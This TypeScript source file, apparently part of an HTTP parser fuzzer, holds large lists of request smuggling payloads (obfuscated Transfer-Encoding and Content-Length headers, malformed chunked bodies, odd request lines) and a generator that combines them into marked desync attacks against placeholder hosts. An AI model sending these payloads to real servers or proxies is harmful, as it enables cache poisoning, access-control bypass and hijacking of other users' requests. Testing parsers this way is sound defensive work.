/**
 * Bytes that have made two servers disagree on where a message ends or what it says: the classes of request smuggling
 * that are known (Watchfire 2005; Kettle, "HTTP Desync Attacks" 2019 and "HTTP/1.1 must die" 2025), obfuscated fields,
 * sizes, lines and targets. `{mark}` is replaced by a value of its own.
 */
const INNER = 'GET /smuggled-{mark} HTTP/1.1\r\nHost: inner.test\r\nX-Mark: {mark}-inner\r\n\r\n'
const HEAD = 'POST /outer HTTP/1.1\r\nHost: outer.test\r\nX-Mark: {mark}\r\n'

/** Ways to write Transfer-Encoding that some server takes for one and some other does not. */
const CODINGS = [
  'Transfer-Encoding: chunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding\t: chunked',
  ' Transfer-Encoding: chunked',
  '\tTransfer-Encoding: chunked',
  'Transfer-Encoding:\x0bchunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding: \tchunked\t',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  'Transfer-Encoding: chunked chunked',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: chunked,',
  'Transfer-Encoding: ,chunked',
  'Transfer-Encoding:',
  'Transfer-Encoding: identity',
  'Transfer-Encoding: cow',
  'Transfer-Encoding\r\n: chunked',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding:\n chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked',
  'X: y\nTransfer-Encoding: chunked',
  'X: y\rTransfer-Encoding: chunked',
  'X: y\r\n\r\nTransfer-Encoding: chunked',
  'X: y\0\r\nTransfer-Encoding: chunked',
  'Transfer_Encoding: chunked',
  'Transfer-Encoding\0: chunked',
  'Transfer-Encoding\xa0: chunked',
  'Transfer-Encoding:\xa0chunked',
  'Transfer-\xa0Encoding: chunked',
  'TRANSFER-ENCODING: CHUNKED',
  'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
  'Connection: close, Content-Length\r\nTransfer-Encoding: chunked'
]

/** Ways to write a length that some server reads as another one. */
const LENGTHS = [
  'Content-Length: {length}',
  'Content-Length: 0',
  'Content-Length: 4',
  'Content-Length : {length}',
  ' Content-Length: {length}',
  'Content-Length: +{length}',
  'Content-Length: -{length}',
  'Content-Length: 0x10',
  'Content-Length: 0{length}',
  'Content-Length: {length}, {length}',
  'Content-Length: {length},0',
  'Content-Length: {length} 0',
  'Content-Length: {length}\x0b',
  'Content-Length: {length}\xa0',
  'Content-Length: 1e2',
  'Content-Length: 1_0',
  'Content-Length: "{length}"',
  'Content-Length: {length}.0',
  'Content-Length:',
  'Content-Length: {length}\r\nContent-Length: {length}',
  'Content-Length: 0\r\nContent-Length: {length}',
  'Content-Length: {length}\r\nContent-Length: 0',
  'Content-Length: 18446744073709551616',
  'Content-Length: 18446744073709551617',
  'Content-Length: 9223372036854775808',
  'Content-Length: 9007199254740993',
  'Content-Length: 4294967296',
  'Content-Length: 00000000000000000000000{length}',
  'Content-Length\r\n: {length}',
  'Content-Length:\r\n {length}',
  'Content_Length: {length}',
  'Connection: Content-Length\r\nContent-Length: {length}',
  'Expect: 100-continue\r\nContent-Length: {length}',
  'Expect: 100-continue, x\r\nContent-Length: {length}',
  'Upgrade: x\r\nConnection: Upgrade\r\nContent-Length: {length}',
  'Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\nContent-Length: {length}'
]

/** Chunked bodies that end at different places for different readers. */
const CHUNKED = [
  `0\r\n\r\n${INNER}`,
  `0\n\n${INNER}`,
  `0\r\r${INNER}`,
  `0\r\n\n${INNER}`,
  `0\r\n\r${INNER}`,
  `0;\r\n\r\n${INNER}`,
  `0;\n\r\n${INNER}`,
  `0;a\nb\r\n\r\n${INNER}`,
  `0;a="\r\n\r\n"${INNER}`,
  `0;a=b;c="d;e"\r\n\r\n${INNER}`,
  `00000000000000000000\r\n\r\n${INNER}`,
  `0x0\r\n\r\n${INNER}`,
  `-0\r\n\r\n${INNER}`,
  `+0\r\n\r\n${INNER}`,
  ` 0\r\n\r\n${INNER}`,
  `0 \r\n\r\n${INNER}`,
  `0\t;a\r\n\r\n${INNER}`,
  `\r\n0\r\n\r\n${INNER}`,
  `1\r\na\r\n0\r\n\r\n${INNER}`,
  `1\nab\r\n0\r\n\r\n${INNER}`,
  `1\r\nab\n0\r\n\r\n${INNER}`,
  `1\r\nabc\r\n0\r\n\r\n${INNER}`,
  `1\r\na0\r\n\r\n${INNER}`,
  `2\r\na\r\n0\r\n\r\n${INNER}`,
  `5;\n\r\nx\r\n0\r\n\r\n${INNER}`,
  `1;a\r\nx\r\n0;GET / HTTP/1.1\r\n\r\n${INNER}`,
  `ffffffffffffffff\r\na\r\n0\r\n\r\n${INNER}`,
  `10000000000000001\r\na\r\n0\r\n\r\n${INNER}`,
  `100000001\r\na\r\n0\r\n\r\n${INNER}`,
  `80000000\r\na\r\n0\r\n\r\n${INNER}`,
  `1g\r\na\r\n0\r\n\r\n${INNER}`,
  `1_0\r\na\r\n0\r\n\r\n${INNER}`,
  `\r\n\r\n${INNER}`,
  `0\r\nX-Trailer: y\r\n\r\n${INNER}`,
  `0\r\nContent-Length: 40\r\n\r\n${INNER}`,
  `0\r\nTransfer-Encoding: chunked\r\nHost: evil.test\r\n\r\n${INNER}`,
  `0\r\nX-Forwarded-For: 1.2.3.4\r\nConnection: X-Mark\r\n\r\n${INNER}`,
  `0\r\n X: folded\r\n\r\n${INNER}`,
  `0\r\nX : y\r\n\r\n${INNER}`,
  `0\r\nX: y\n\r\n${INNER}`,
  `0\r\nGET /smuggled-{mark} HTTP/1.1\r\nHost: a\r\n\r\n`
]

/** Whole heads that are odd by themselves. */
const HEADS = [
  'GET /a HTTP/1.1\r\n\r\n',
  'GET /a HTTP/1.0\r\n\r\n',
  'GET /a\r\n\r\n',
  'GET /a\r\nHost: a\r\n\r\n',
  'GET /a HTTP/0.9\r\nHost: a\r\n\r\n',
  'GET /a HTTP/1.2\r\nHost: a\r\n\r\n',
  'GET /a HTTP/2.0\r\nHost: a\r\n\r\n',
  'GET /a HTTP/1.1 \r\nHost: a\r\n\r\n',
  'GET /a HTTP/1.10\r\nHost: a\r\n\r\n',
  'GET /a HTTP/01.1\r\nHost: a\r\n\r\n',
  'GET /a http/1.1\r\nHost: a\r\n\r\n',
  'GET  /a HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET\t/a\tHTTP/1.1\r\nHost: a\r\n\r\n',
  'GET /a b HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET /a\tb HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET /a\x0cb HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET /a\0b HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET /a\xe9b HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET /a#b HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET /a\r\n HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET /a%0d%0aX:%20y HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET a HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET ?a HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET * HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET //evil.test/a HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET /../a HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET http://other.test/a HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET http://other.test HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET http://other.test?x HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET http://user@other.test/a HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET http:///a HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET http://a:99999/a HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET http://a\\b/a HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET ftp://other.test/a HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET @other.test/a HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET /a HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n',
  'GET /a HTTP/1.1\r\nHost: a, b\r\n\r\n',
  'GET /a HTTP/1.1\r\nHost: a b\r\n\r\n',
  'GET /a HTTP/1.1\r\nHost: a/b\r\n\r\n',
  'GET /a HTTP/1.1\r\nHost: a@b\r\n\r\n',
  'GET /a HTTP/1.1\r\nHost:\r\n\r\n',
  'GET /a HTTP/1.1\r\nHost : a\r\n\r\n',
  'GET /a HTTP/1.1\r\n Host: a\r\n\r\n',
  'GET /a HTTP/1.1\r\nX: y\r\n folded\r\nHost: a\r\n\r\n',
  'GET /a HTTP/1.1\r\nHost: a\r\nX: y\r\n\tfolded\r\n\r\n',
  'GET /a HTTP/1.1\r\nHost: a\r\n: empty\r\n\r\n',
  'GET /a HTTP/1.1\r\nHost: a\r\nno colon\r\n\r\n',
  'GET /a HTTP/1.1\r\nHost: a\r\nX: y\rZ: w\r\n\r\n',
  'GET /a HTTP/1.1\r\nHost: a\r\nX: y\nZ: w\r\n\r\n',
  'GET /a HTTP/1.1\nHost: a\n\n',
  'GET /a HTTP/1.1\rHost: a\r\r',
  'GET /a HTTP/1.1\r\nHost: a\r\nX: \0\r\n\r\n',
  'GET /a HTTP/1.1\r\nHost: a\r\nX: \x7f\r\n\r\n',
  'GET /a HTTP/1.1\r\nHost: a\r\nConnection: Host\r\n\r\n',
  'GET /a HTTP/1.1\r\nHost: a\r\nConnection: X-Forwarded-For, Via, X-Request-Id, Cookie\r\nCookie: a\r\n\r\n',
  'GET /a HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n',
  'GET /a HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: a, b\xe9\r\n\r\n',
  'GET /a HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\n\r\n',
  'GET /a HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\n\r\n',
  'GET /a HTTP/1.1\r\nHost: a\r\nExpect: x\r\n\r\n',
  'CONNECT other.test:443 HTTP/1.1\r\nHost: a\r\n\r\n',
  'CONNECT /a HTTP/1.1\r\nHost: a\r\n\r\n',
  'TRACE /a HTTP/1.1\r\nHost: a\r\n\r\n',
  'OPTIONS * HTTP/1.1\r\nHost: a\r\n\r\n',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
  'G\0T /a HTTP/1.1\r\nHost: a\r\n\r\n',
  'get /a HTTP/1.1\r\nHost: a\r\n\r\n',
  'CUSTOM /a HTTP/1.1\r\nHost: a\r\n\r\n',
  '\r\n\r\nGET /a HTTP/1.1\r\nHost: a\r\n\r\n',
  '\n\r\nGET /a HTTP/1.1\r\nHost: a\r\n\r\n',
  ' GET /a HTTP/1.1\r\nHost: a\r\n\r\n',
  '\xef\xbb\xbfGET /a HTTP/1.1\r\nHost: a\r\n\r\n',
  `GET /${'a'.repeat(17_000)} HTTP/1.1\r\nHost: a\r\n\r\n`,
  `GET /a HTTP/1.1\r\nHost: a\r\nX: ${'y'.repeat(17_000)}\r\n\r\n`,
  `GET /a HTTP/1.1\r\nHost: a\r\n${'X: y\r\n'.repeat(120)}\r\n`,
  `HEAD /a HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\nhello`,
  `HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n`,
  '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03',
  'PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\nGET /a HTTP/1.1\r\nHost: a\r\n\r\n'
]

/** How to pick, without saying how chance works. */
export interface Picker {
  readonly pick: <T>(items: readonly T[]) => T
  readonly below: (limit: number) => number
}

/** Fields that say in two ways, or in an odd one, where a body ends. */
export function oddFraming(picker: Picker, length: number): string {
  const fields = [picker.pick(LENGTHS), picker.pick(CODINGS)].slice(picker.below(2), 1 + picker.below(2))
  return fields.map((field) => `${field.replaceAll('{length}', String(length))}\r\n`).join('')
}

/** One attack, latin1: ambiguous framing of a body that looks like a request, or an odd head with a request behind it. */
export function attack(picker: Picker, mark: string): string {
  const way = picker.below(4)
  let text: string
  if (way === 0) text = `${picker.pick(HEADS).replace('/a', '/a-{mark}')}${INNER}`
  else if (way === 1) text = `${HEAD}${picker.pick(LENGTHS)}\r\n\r\n${INNER}`
  else {
    const length = way === 2 ? `${picker.pick(LENGTHS)}\r\n` : ''
    const fields =
      picker.below(2) === 0 ? length + picker.pick(CODINGS) : `${picker.pick(CODINGS)}\r\n${length}`
    text = `${HEAD}${fields.replace(/\r\n$/, '')}\r\n\r\n${picker.pick(CHUNKED)}`
  }
  const length = String(picker.pick([INNER.length, INNER.length + 5, 5, 3, 6]))
  return text.replaceAll('{length}', length).replaceAll('{mark}', mark)
}
